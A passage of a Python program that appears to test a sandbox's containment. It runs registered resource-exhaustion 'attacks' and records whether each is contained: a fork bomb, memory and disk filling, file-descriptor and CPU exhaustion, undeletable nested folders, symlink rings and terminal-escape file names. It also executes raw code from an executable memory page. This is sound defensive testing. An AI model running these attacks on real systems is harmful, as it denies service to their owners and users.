    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    run = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
    return int(run())


# --- Exhaustion: each does a bounded part of it, which is more than its limit.


def insist(w: World, more: Callable[[int], object]) -> Tried:
    """Do something again and again, until it is ended; where no limit is named, once."""
    for n in range(w.times):
        more(n)
        time.sleep(0.3)
    return HARM


@attack("exhaustion", "takes memory", "open contained contained", alone="memory")
def take_memory(w: World) -> Tried:
    kept: list[bytearray] = []
    return insist(w, lambda n: kept.append(bytearray(b"x" * (72 * MB if n == 0 else MB))))


@attack("exhaustion", "takes memory as files in /tmp", "open refused refused", alone="memory")
def take_memory_in_files(w: World) -> Tried:
    with open(f"/tmp/{w.token}.large", "wb") as file:
        for _ in range(40):
            file.write(b"x" * MB)
    return HARM


@attack(
    "exhaustion",
    "starts processes without end",
    "open contained contained",
    alone="processes",
    system="control groups, where they are",
)
def fork_bomb(w: World) -> Tried:
    for _ in range(60):
        if os.fork() == 0:
            time.sleep(0.5)
            os._exit(0)
    time.sleep(0.2)
    return HARM


@attack("exhaustion", "writes a large file", "open contained contained", alone="file_size")
def large_file(w: World) -> Tried:
    signal.signal(signal.SIGXFSZ, signal.SIG_DFL)  # Python ignores it
    with open("large", "wb") as file:
        for _ in range(3):
            file.write(b"x" * MB)
    return HARM


@attack("exhaustion", "makes a large file with nothing in it", "open contained contained", alone="file_size")
def sparse_file(w: World) -> Tried:
    signal.signal(signal.SIGXFSZ, signal.SIG_DFL)
    append("sparse")
    os.truncate("sparse", 1 << 34)
    return HARM


@attack("exhaustion", "fills the disk", "open contained contained", alone="output")
def fill_disk(w: World) -> Tried:
    def more(n: int) -> None:
        with open(f"fill{n}", "wb") as file:
            file.write(b"x" * 10 * MB)

    return insist(w, more)


@attack("exhaustion", "takes all files of the disk", "open contained contained", alone="output")
def many_files(w: World) -> Tried:
    def more(n: int) -> None:
        for each in range(1000):
            os.close(os.open(f"many{n}-{each}", os.O_CREAT | os.O_WRONLY))

    return insist(w, more)


@attack("exhaustion", "prints without end", "open contained contained", alone="log")
def flood_log(w: World) -> Tried:
    for _ in range(40):
        os.write(1, b"x" * 65536)
    return HARM


@attack("exhaustion", "uses the processor without end", "open contained contained", alone="cpu")
def use_processor(w: World) -> Tried:
    while time.process_time() < 0.2 * w.times:
        pass
    return HARM


@attack("exhaustion", "opens files without end", "open refused refused", alone="files")
def open_files(w: World) -> Tried:
    kept = [os.open("/dev/null", os.O_RDONLY) for _ in range(200)]
    return HARM if kept else None


@attack("exhaustion", "leaves folders that are too deep to be removed", "contained contained contained")
def deep_folders(w: World) -> Tried:
    os.mkdir("deep")
    os.chdir("deep")
    for _ in range(60):
        os.mkdir("d" * 100)
        os.chdir("d" * 100)


@attack("exhaustion", "leaves folders that nobody may enter", "contained contained contained")
def shut_folders(w: World) -> Tried:
    os.makedirs("shut/in/side")
    os.chmod("shut/in", 0)
    os.chmod("shut", 0)


@attack("exhaustion", "leaves links in a ring, and names that are no text", "contained contained contained")
def strange_names(w: World) -> Tried:
    os.mkdir("strange")
    os.symlink("ring", "strange/ring")
    os.symlink("/", "strange/root")
    append(os.fsdecode(b"strange/\xff\n\x1b[2J"))


# --- The program.

_PATIENCE = 20  # seconds for one attack


def attempt_here(w: World, name: str) -> dict[str, Any]:
    """Do one attack; what it got, or the error of the system that met it."""
    w.name = name
    try:
        got = ATTACKS[name].attempt(w)
    except OSError as error:
        return {"error": f"{type(error).__name__}: {error}"}
    except BaseException as error:  # noqa: BLE001 - a mistake of ours, which must be seen
        return {"mistake": f"{type(error).__name__}: {error}"}
    return {"got": got.decode("latin-1") if isinstance(got, bytes) else got}


def attempt_apart(w: World, name: str) -> dict[str, Any]:
    """Do one attack in a process of its own, which may end by it."""
    source, sink = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(source)
        signal.alarm(_PATIENCE)
        os.write(sink, json.dumps(attempt_here(w, name)).encode())
        os._exit(0)
    os.close(sink)
    with open(source, "rb") as file:
        text = file.read()
    _, status = os.waitpid(pid, 0)
    return json.loads(text) if text else {"ended": status}


def inherited() -> list[int]:
    """Files that are open beside the three, before this program has opened any."""
    found = []
    for fd in map(int, os.listdir("/proc/self/fd")):
        with suppress(OSError):
            os.fstat(fd)
            found += [fd] if fd > 2 else []
    return found


def main() -> None:
    left = inherited()
    with open(sys.argv[1], encoding="utf-8") as file:
        w = World(**json.load(file))
    w.round, w.inherited = int(sys.argv[2]), left
    folder = os.getcwd()
    for name in sys.argv[3:]:
        os.chdir(folder)
        with open("said", "a", encoding="utf-8") as said:  # before an attack may have opened too many
            found = attempt_here(w, name) if ATTACKS[name].alone else attempt_apart(w, name)
            said.write(json.dumps({"name": name, **found}) + "\n")


if __name__ == "__main__":
    main()
